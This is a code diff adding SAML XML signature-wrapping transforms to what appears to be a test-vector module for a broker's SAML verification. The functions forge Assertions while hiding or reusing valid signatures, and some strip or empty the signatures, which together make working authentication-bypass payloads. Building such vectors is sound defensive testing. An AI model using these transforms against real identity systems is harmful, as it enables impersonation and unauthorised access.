@@ -1,11 +1,14 @@
 """Signature wrapping: a validly signed part is kept somewhere, and a forged one stands where it is read.
 
+Each turns a signed Response into the attacker's, in place; `vectors/wrapping.py` says what becomes of it.
 Source: Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (2012), XSW1 to XSW8.
 """
 
 import copy
 
 from lxml import etree
+from saml.keys import signer
+from saml.sign import sign
 
 from llmops.broker.saml import names
 from llmops.broker.saml.names import ds, saml, samlp
@@ -172,6 +175,122 @@ def into_key_info(root: etree._Element) -> None:
     key_info.append(original)
 
 
+def into_foreign_extension(root: etree._Element) -> None:
+    """The signed Assertion is kept below a foreign element in Extensions."""
+    assertion = _assertion(root)
+    root.replace(assertion, _forged(assertion, "_forged", signed=False))
+    extensions = etree.Element(samlp("Extensions"))
+    etree.SubElement(extensions, "{urn:x}kept").append(assertion)
+    root.insert(1, extensions)
+
+
+def into_context_declaration(root: etree._Element) -> None:
+    """The signed Assertion is kept in the forged one's AuthnContextDecl."""
+    assertion = _assertion(root)
+    forged = _forged(assertion, "_forged", signed=False)
+    root.replace(assertion, forged)
+    context = forged.find(f".//{saml('AuthnContext')}")
+    assert context is not None
+    etree.SubElement(context, saml("AuthnContextDecl")).append(assertion)
+
+
+def into_confirmation_data(root: etree._Element) -> None:
+    """The signed Assertion is kept in the forged one's SubjectConfirmationData."""
+    assertion = _assertion(root)
+    forged = _forged(assertion, "_forged", signed=False)
+    root.replace(assertion, forged)
+    confirmed = forged.find(f".//{saml('SubjectConfirmationData')}")
+    assert confirmed is not None
+    confirmed.append(assertion)
+
+
+def into_encrypted_assertion(root: etree._Element) -> None:
+    """The signed Assertion is kept, in clear, in an EncryptedAssertion beside the forged one."""
+    assertion = _assertion(root)
+    root.replace(assertion, _forged(assertion, "_forged", signed=False))
+    etree.SubElement(root, saml("EncryptedAssertion")).append(assertion)
+
+
+def into_key_info_of_response(root: etree._Element) -> None:
+    """The signed Assertion is kept in the KeyInfo of the Response's signature."""
+    assertion = _assertion(root)
+    key_info = _signature(root).find(ds("KeyInfo"))
+    assert key_info is not None
+    root.replace(assertion, _forged(assertion, "_forged", signed=False))
+    key_info.append(assertion)
+
+
+def response_into_object(root: etree._Element) -> None:
+    """XSW8 for the Response: the original is kept in a ds:Object of the forged Response's signature."""
+    original = copy.deepcopy(root)
+    _remove(original.find(ds("Signature")))
+    forged = _forged(root, "_forged", signed=True)
+    _object(_signature(forged)).append(original)
+    _become(root, forged)
+
+
+def response_into_extensions(root: etree._Element) -> None:
+    """XSW7 for the Response: the original is kept, with its signature, in the forged Response's Extensions."""
+    original = copy.deepcopy(root)
+    forged = _forged(root, "_forged", signed=False)
+    extensions = etree.Element(samlp("Extensions"))
+    extensions.append(original)
+    forged.insert(1, extensions)
+    _become(root, forged)
+
+
+def response_into_status_detail(root: etree._Element) -> None:
+    """The original Response is kept, with its signature, in the forged Response's StatusDetail."""
+    original = copy.deepcopy(root)
+    forged = _forged(root, "_forged", signed=False)
+    status = forged.find(samlp("Status"))
+    assert status is not None
+    etree.SubElement(status, samlp("StatusDetail")).append(original)
+    _become(root, forged)
+
+
+def forged_on_both_sides(root: etree._Element) -> None:
+    """Forged Assertions stand before and after the signed one."""
+    xsw3(root)
+    root.append(_forged(_assertion(root), "_forged_too", signed=False))
+
+
+def same_id_before(root: etree._Element) -> None:
+    """A forged Assertion with the signed one's ID comes first."""
+    assertion = _assertion(root)
+    root.insert(root.index(assertion), _forged(assertion, assertion.get("ID", ""), signed=False))
+
+
+def same_id_after(root: etree._Element) -> None:
+    """A forged Assertion with the signed one's ID comes last."""
+    assertion = _assertion(root)
+    root.append(_forged(assertion, assertion.get("ID", ""), signed=False))
+
+
+def same_id_with_signature(root: etree._Element) -> None:
+    """A forged Assertion with the signed one's ID and signature comes first."""
+    assertion = _assertion(root)
+    root.insert(root.index(assertion), _forged(assertion, assertion.get("ID", ""), signed=True))
+
+
+def assertion_alone(root: etree._Element) -> None:
+    """The signed Assertion is the whole document."""
+    assertion = _assertion(root)
+    root.tag = assertion.tag
+    root.attrib.clear()
+    _become(root, assertion)
+
+
+def in_envelope(root: etree._Element) -> None:
+    """The Response arrives in a SOAP envelope."""
+    soap = "{http://schemas.xmlsoap.org/soap/envelope/}"
+    inner = copy.deepcopy(root)
+    root.tag = soap + "Envelope"
+    root.attrib.clear()
+    root[:] = []
+    etree.SubElement(root, soap + "Body").append(inner)
+
+
 def signed_in_place(root: etree._Element) -> None:
     """The forged Assertion keeps the original's ID and signature."""
     for name_id in root.iter(saml("NameID")):
@@ -218,6 +337,52 @@ def signature_twice(root: etree._Element) -> None:
     """The same signature stands in the Assertion twice."""
     assertion = _assertion(root)
     assertion.insert(1, copy.deepcopy(_signature(assertion)))
+
+
+def signature_in_extensions(root: etree._Element) -> None:
+    """The Assertion's signature stands in Extensions."""
+    extensions = etree.Element(samlp("Extensions"))
+    extensions.append(_signature(_assertion(root)))
+    root.insert(1, extensions)
+
+
+def signature_of_another_message(root: etree._Element) -> None:
+    """The signature is one that the identity provider made of another of its Assertions, about somebody else."""
+    assertion = _assertion(root)
+    other = copy.deepcopy(assertion)
+    _remove(_signature(other))
+    other.set("ID", "_other")
+    assertion.replace(_signature(assertion), sign(other, signer()))
+
+
+def signature_of_the_same_id(root: etree._Element) -> None:
+    """The signature is one that the identity provider made of another of its Assertions, which has the same ID."""
+    assertion = _assertion(root)
+    other = copy.deepcopy(assertion)
+    _remove(_signature(other))
+    for name_id in other.iter(saml("NameID")):
+        name_id.text = "eve@acme.test"
+    assertion.replace(_signature(assertion), sign(other, signer()))
+
+
+def signature_emptied(root: etree._Element) -> None:
+    """The Assertion's signature is an empty element."""
+    _signature(_assertion(root))[:] = []
+
+
+def signature_without_signed_info(root: etree._Element) -> None:
+    """The Assertion's signature has a value and a key, but covers nothing."""
+    del _signature(_assertion(root))[0]
+
+
+def response_signature_removed(root: etree._Element) -> None:
+    """The Response's signature is taken away, the Assertion's stays."""
+    _remove(_signature(root))
+
+
+def assertion_signature_removed(root: etree._Element) -> None:
+    """The Assertion's signature is taken away, the Response's stays."""
+    _remove(_signature(_assertion(root)))
 
 
 def assertion_twice(root: etree._Element) -> None:
